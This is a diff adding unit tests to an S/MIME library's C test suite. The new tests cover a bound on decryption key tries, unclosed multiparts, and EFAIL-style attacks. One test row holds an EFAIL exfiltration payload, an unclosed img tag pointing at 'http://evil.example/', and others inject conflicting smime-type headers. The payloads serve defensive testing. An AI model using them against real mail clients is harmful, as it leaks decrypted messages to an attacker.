@@ -4,6 +4,7 @@
 #include <stdlib.h>
 #include <string.h>
 
+#include "base/limits.h"
 #include "tests/unit/crypto/compress.h"
 #include "tests/unit/smime/helpers.h"
 
@@ -674,6 +675,55 @@ START_TEST(does_not_open_for_an_owner_whose_recipient_info_was_made_up)
 }
 END_TEST
 
+/* The certificate that the last RecipientInfo names; they stand in the order of their octets. */
+static size_t
+last_recipient(const struct buffer *der, const struct person *people, size_t count)
+{
+	struct memory_source memory;
+	struct source source = memory_source(&memory, der->data, der->size);
+	struct cms_shape *shape = NULL;
+	struct error e = ERROR_INIT;
+	const char *name;
+	size_t i = 0;
+
+	expect_ok(cms_walk(&source, NULL, &shape, &e));
+	ck_assert_uint_eq(shape->recipient_count, count);
+	name = shape->recipients[count - 1].name.issuer_serial;
+	while (strcmp(certificate_issuer_serial(people[i].forged.c), name) != 0)
+		i++;
+	cms_shape_free(shape);
+	return i;
+}
+
+/* One identity with many keys, of which the last to be tried is the right one. */
+START_TEST(tries_no_more_keys_than_the_bound)
+{
+	struct person people[LIMIT_OPEN_TRIES + 1], held[LIMIT_OPEN_TRIES + 1];
+	const struct person *to[LIMIT_OPEN_TRIES + 1] = { NULL }, *keys[LIMIT_OPEN_TRIES + 1];
+	size_t count = LIMIT_OPEN_TRIES + (size_t)_i, last;
+	struct ring ring = { .people = keys, .count = count };
+	struct buffer der;
+	struct opening o;
+
+	for (size_t i = 0; i < count; i++) {
+		people[i] = held[i] = person_make("bob@example.com", NULL);
+		to[i] = &people[i];
+		keys[i] = &held[i];
+		held[i].key = alice.key;
+	}
+	der = encrypted_der(to, count, PROFILE_MODERN, PLAIN);
+	last = last_recipient(&der, people, count);
+	held[last].key = people[last].key;
+	o = open_text(wrapped(&der, "authEnveloped-data"), &ring);
+	ck_assert(o.layers->items[0].tried);
+	ck_assert_int_eq(o.layers->opened, count == LIMIT_OPEN_TRIES);
+	opening_done(&o);
+	buffer_done(&der);
+	for (size_t i = 0; i < count; i++)
+		person_done(&people[i]);
+}
+END_TEST
+
 /* ---- faults ---- */
 
 START_TEST(reports_a_fault_before_any_key_was_tried)
@@ -754,6 +804,9 @@ START_TEST(sees_what_a_clear_signature_does_not_cover)
 	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message\r\nbuy now\r\n--"), "text-outside-parts");
 	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message of eve@evil.example\r\n--"),
 	    "text-outside-parts");
+	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message, see http:evil.example\r\n--"),
+	    "text-outside-parts");
+	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME &lt;offer\r\n--"), "text-outside-parts");
 	expect_uncovered(edited("s", "\r\n\r\n--", "\r\nContent-Type: text/html\r\n\r\n--"), "ambiguous-structure");
 	expect_uncovered(edited("s", "\r\n\r\n--", "; boundary=other\r\n\r\n--"), "ambiguous-structure");
 	expect_uncovered(edited("s", "Content-Type: multipart", "Content-Transfer-Encoding: base64\r\nContent-Type: multipart"),
@@ -786,6 +839,40 @@ START_TEST(sees_a_third_part)
 	ck_assert_str_eq(o.layers->items[0].structure, "not-two-parts");
 	opening_done(&o);
 	buffer_done(&text);
+}
+END_TEST
+
+START_TEST(sees_a_multipart_that_does_not_end)
+{
+	struct buffer text = layered("s", PLAIN);
+
+	text.size -= strlen("--\r\n");
+	while (memcmp(text.data + text.size, "\r\n--", 4) != 0)
+		text.size--;
+	text.data[text.size] = '\0';
+	expect_uncovered(text, "not-closed");
+}
+END_TEST
+
+/* What stands beside ciphertext must not be put together with what comes out of it (EFAIL). */
+START_TEST(opens_nothing_below_a_signature_that_does_not_cover_all)
+{
+	static const struct {
+		const char *kinds, *from, *to;
+	} rows[] = {
+		{ "cs", "\r\n\r\n--", "\r\n\r\n<img src=\"http://evil.example/\r\n--" },
+		{ "co", "smime-type=signed-data", "smime-type=signed-data; smime-type=enveloped-data" },
+		{ "c", "smime-type=enveloped-data", "smime-type=enveloped-data; smime-type=signed-data" },
+	};
+
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		struct ring ring = bobs;
+		struct opening o = open_text(edited(rows[i].kinds, rows[i].from, rows[i].to), &ring);
+
+		ck_assert_msg(!o.layers->opened, "%s", rows[i].to);
+		ck_assert_uint_eq(ring.calls, 0);
+		opening_done(&o);
+	}
 }
 END_TEST
 
@@ -938,6 +1025,7 @@ suite_layers(void)
 	LOOP(t, opens_nothing_but_one_well_formed_entity, no_entities);
 	tcase_add_test(t, does_not_open_below_an_ambiguous_header);
 	tcase_add_loop_test(t, does_not_open_for_an_owner_whose_recipient_info_was_made_up, 0, PROFILE_COUNT);
+	tcase_add_loop_test(t, tries_no_more_keys_than_the_bound, 0, 2);
 	tcase_add_test(t, reports_a_fault_before_any_key_was_tried);
 	tcase_add_test(t, hides_a_fault_once_a_key_was_tried);
 	suite_add_tcase(s, t);
@@ -946,6 +1034,8 @@ suite_layers(void)
 	tcase_add_test(t, sees_what_a_clear_signature_does_not_cover);
 	tcase_add_test(t, sees_a_second_part_that_is_shown);
 	tcase_add_test(t, sees_a_third_part);
+	tcase_add_test(t, sees_a_multipart_that_does_not_end);
+	tcase_add_test(t, opens_nothing_below_a_signature_that_does_not_cover_all);
 	tcase_add_test(t, sees_changed_content);
 	tcase_add_test(t, refuses_a_detached_signature_that_carries_content_of_its_own);
 	tcase_add_test(t, refuses_a_detached_signature_where_content_must_be);
